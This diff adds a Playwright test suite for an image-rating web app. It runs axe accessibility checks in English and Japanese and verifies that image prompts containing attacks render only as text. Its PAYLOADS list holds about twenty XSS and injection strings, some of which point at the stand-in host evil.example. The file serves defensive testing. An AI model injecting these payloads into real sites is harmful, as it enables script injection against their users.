@@ -1,0 +1,167 @@
+"""Every view in a real browser: usable by everyone (axe), safe against what images say of themselves."""
+
+import json
+
+import pytest
+
+from tests.client.web import recorded
+from tests.client.web.site import until
+
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(280)]
+
+VIEWS = ("rate", "pair", "pick", "library", "tail", "taste", "night", "lineage")
+READY = {
+    "rate": ".frame img",
+    "pair": ".side img",
+    "pick": ".nine img",
+    "library": "[role=option] img:not([hidden])",
+    "tail": ".tile img",
+    "taste": ".card, .sheet p",
+    "night": ".blind img",
+    "lineage": ".node.now",
+}
+PAYLOADS = (
+    "<script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1>",
+    '"><svg onload=window.hit=1>',
+    "'-window.hit=1-'",
+    "javascript:window.hit=1",
+    "</textarea><script>window.hit=1</script>",
+    "{{constructor.constructor('window.hit=1')()}}",
+    "${window.hit=1}",
+    "<iframe srcdoc='<script>parent.hit=1</script>'>",
+    "<a href=javascript:window.hit=1>x</a>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "&lt;script&gt;window.hit=1&lt;/script&gt;",
+    "\u202e<b>rtl</b>\u2028",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
+    "<object data=//evil.example></object>",
+    "<form action=//evil.example><button>",
+    "[[x]](//evil.example)",
+    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
+)
+
+
+@pytest.fixture(scope="module")
+def hostile(site) -> list[str]:
+    """Pictures whose prompts are attacks, and grades on some of them."""
+    return site.fill(40, prompts=list(PAYLOADS), unit="<img src=x onerror=window.hit=1>", first=1000)
+
+
+def opened(visit, view: str, digests: list[str], language: str, theme: str = "light"):
+    page = visit("rate", language, theme, service_workers="block")  # else it hides requests from `play`
+    recorded.play(page, digests)
+    page.goto(page.url.partition("#")[0] + f"#{view}")
+    page.evaluate(f"location.hash = '{view}'")
+    page.wait_for_selector(READY[view])
+    return page
+
+
+@pytest.mark.parametrize("language", ["en", "ja"])
+def test_axe_finds_nothing_in_any_view(site, visit, hostile, language):
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
+    page = opened(visit, "rate", hostile, language, "dark" if language == "ja" else "light")
+    found = {}
+    for view in VIEWS:
+        page.evaluate(f"location.hash = '{view}'")
+        page.wait_for_selector(READY[view])
+        page.wait_for_timeout(150)
+        found[view] = axe.run(page).response["violations"]
+    page.evaluate("location.hash = 'library'")
+    page.wait_for_selector(READY["library"])
+    page.keyboard.press("Enter")
+    page.wait_for_selector("dialog .strip, dialog .small")
+    found["detail"] = axe.run(page).response["violations"]
+    page.keyboard.press("Escape")
+    page.keyboard.press("?")
+    page.wait_for_selector("dialog.keys")
+    found["keys"] = axe.run(page).response["violations"]
+    told = {view: [(v["id"], v["nodes"][0]["html"][:120]) for v in all_of] for view, all_of in found.items() if all_of}
+    assert not told, json.dumps(told, indent=1)
+
+
+@pytest.mark.parametrize("language", ["en", "ja"])
+def test_a_night_is_planned_judged_and_rolled_back(site, visit, hostile, language):
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
+    page = opened(visit, "night", hostile, language)
+    page.locator("details summary").click()
+    page.fill("#gpu_hours", "1")
+    estimate = page.locator(".sheet button", has_text={"en": "Estimate", "ja": "見積もる"}[language])
+    with page.expect_request("**/NightPlan") as asked:
+        estimate.click()
+    assert json.loads(asked.value.post_data) == {"system": "converge", "units": 3, "images": 320, "gpu_hours": 1}
+    page.wait_for_selector(".cards .card")
+    assert {"en": "Accelerator hours", "ja": "アクセラレーター時間"}[language] in page.inner_text(".cards ~ .verdict")
+    page.fill("#chain", "longtail:2 + golden:1")
+    with page.expect_request("**/NightPlan") as asked:
+        estimate.click()
+    assert json.loads(asked.value.post_data) == {"system": "longtail:2+golden:1", "images": 320, "gpu_hours": 1}
+    page.locator(".blind .side").first.click()
+    page.wait_for_selector(".decide .primary")
+    assert {"en": "surely loses", "ja": "負けています"}[language] in page.inner_text(".sheet")
+    found = axe.run(page).response["violations"]
+    assert not [(one["id"], one["nodes"][0]["html"][:160]) for one in found]
+    page.locator(".decide .primary").click()
+    page.wait_for_selector(".decide:not(:has(button))")
+    assert {"en": "Rolled back to", "ja": "に戻しました"}[language] in page.inner_text(".decide")
+
+
+def test_what_an_image_says_of_itself_is_never_markup(site, visit, hostile):
+    page = visit("rate", service_workers="block")
+    heard: list[str] = []
+    page.on("dialog", lambda dialog: (heard.append(f"dialog {dialog.message}"), dialog.dismiss()))
+    page.on("request", lambda r: None if r.url.startswith((site.address, "data:", "blob:")) else heard.append(r.url))
+    page.evaluate("addEventListener('securitypolicyviolation', (e) => { window.broken = e.violatedDirective; })")
+    recorded.play(page, hostile)
+    seen = set()
+    for view in VIEWS:
+        page.evaluate(f"location.hash = '{view}'")
+        page.wait_for_selector(READY[view])
+        if view == "library":
+            for place in range(0, 40, 3):
+                page.evaluate(f"document.querySelector('.scroller').scrollTop = {place * 60}")
+                page.wait_for_timeout(40)
+                seen |= set(page.evaluate("[...document.querySelectorAll('[role=option]')].map((e) => e.ariaLabel)"))
+            page.keyboard.press("Enter")
+            page.wait_for_selector("dialog .facts")
+            page.wait_for_timeout(300)
+            page.keyboard.press("Escape")
+        for _ in range(6 if view in ("rate", "pair") else 0):
+            page.keyboard.press("Space")
+            page.wait_for_timeout(60)
+        assert page.evaluate("[window.hit, window.broken]") == [None, None], view
+    assert not heard
+    assert len([name for name in seen if "hit=1" in name]) >= 10, "the attacks were on the screen, as text"
+    assert page.evaluate("document.querySelectorAll('main script, main iframe, main object, main style').length") == 0
+
+
+def test_markup_from_text_is_refused_by_the_browser_itself(visit):
+    page = visit("rate", strict=False)
+    refused = page.evaluate(
+        "() => { try { document.body.innerHTML = '<b>x</b>'; return 'made'; } catch (error) { return error.name; } }"
+    )
+    assert refused == "TypeError", "trusted types are enforced"
+
+
+def test_a_hundred_thousand_places_can_be_jumped_through(visit):
+    """The grid itself: few cells whatever the number, and the last index is one jump away."""
+    page = visit("library", strict=False, service_workers="block")
+    page.wait_for_selector(READY["library"])
+    page.route("**/konomi.v1.RaterService/ListImages", lambda route: route.fulfill(body=json.dumps(_page_of(route))))
+    page.click(".filters .toggle")
+    until(page, "document.querySelector('[role=option]').getAttribute('aria-setsize') === '100000'")
+    page.fill("#jump-to", "99990")
+    page.keyboard.press("Enter")
+    until(page, "document.querySelector('[aria-selected=true]')?.ariaLabel?.startsWith('99990: number 99989')")
+    assert page.evaluate("document.querySelectorAll('[role=option]').length") < 200
+
+
+def _page_of(route) -> dict:
+    asked = json.loads(route.request.post_data)
+    first = asked.get("skip", 0)
+    images = [
+        {"digest": f"{n:064x}", "prompt": f"number {n}"} for n in range(first, min(100_000, first + asked["pageSize"]))
+    ]
+    return {"images": images, "totalSize": "100000"}
